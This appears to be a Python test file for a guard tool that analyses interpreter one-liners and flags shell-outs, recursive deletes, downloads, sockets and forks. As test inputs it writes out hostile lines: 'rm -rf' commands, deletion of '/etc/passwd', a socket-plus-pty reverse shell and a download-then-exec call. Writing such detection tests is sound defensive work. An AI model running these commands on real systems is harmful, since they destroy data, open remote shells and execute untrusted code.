"""Interpreter one-liners: shell-outs, deletes, downloads, sockets, decoding and forks."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from domestique.guard.interp import analyze


def test_python_shell_out_is_extracted() -> None:
    """os.system('…') hands its literal command to the shell judge."""
    assert analyze("import os; os.system('rm -rf ~')", "python").shell == ["rm -rf ~"]


def test_list_form_and_execl_argv0() -> None:
    """subprocess.run([...]) joins the list; os.execl drops argv[0]."""
    assert analyze('subprocess.run(["rm", "-rf", "/"])', "python").shell == ["rm -rf /"]
    assert analyze('os.execl("/bin/sh", "sh", "-c", "id")', "python").shell == ["/bin/sh -c id"]


def test_backticks_in_perl_and_ruby_only() -> None:
    """Backticks run commands in perl/ruby, not in python."""
    assert analyze("`rm -rf /home/u`", "ruby").shell == ["rm -rf /home/u"]
    assert analyze("`rm -rf /home/u`", "python").shell == []


def test_deletes() -> None:
    """rmtree and friends become synthetic rm commands."""
    assert analyze("shutil.rmtree('/home/u')", "python").delete_trees == ["/home/u"]
    assert analyze("fs.rmSync('/etc', {recursive:true})", "node").delete_trees == ["/etc"]
    assert analyze("os.remove('/etc/passwd')", "python").delete_files == ["/etc/passwd"]


def test_reverse_shell_facts() -> None:
    """A socket plus dup2/pty is wiring a shell to the network."""
    f = analyze(
        's=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);pty.spawn("sh")', "python"
    )
    assert f.socket
    assert f.wires_shell
    assert not f.listens


def test_download_and_exec() -> None:
    """A download whose content is executed."""
    f = analyze("exec(urllib.request.urlopen('https://x').read())", "python")
    assert f.downloads
    assert f.executes


def test_plain_code_is_quiet() -> None:
    """print() has no facts."""
    f = analyze("print(sum(range(10)))", "python")
    assert not (f.shell)
    assert not (f.downloads)
    assert not (f.socket)
    assert not (f.executes)
    assert not (f.fork_loop)


def test_awk_system_and_pipes() -> None:
    """awk system() and print | "cmd" are shell-outs."""
    assert analyze('BEGIN {system("id")}', "awk").shell == ["id"]
    assert "sort" in analyze('{print | "sort"}', "awk").shell


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_never_raises(code: str) -> None:
    """Arbitrary code text yields facts, never an exception."""
    analyze(code, "python")
    analyze(code, "awk")
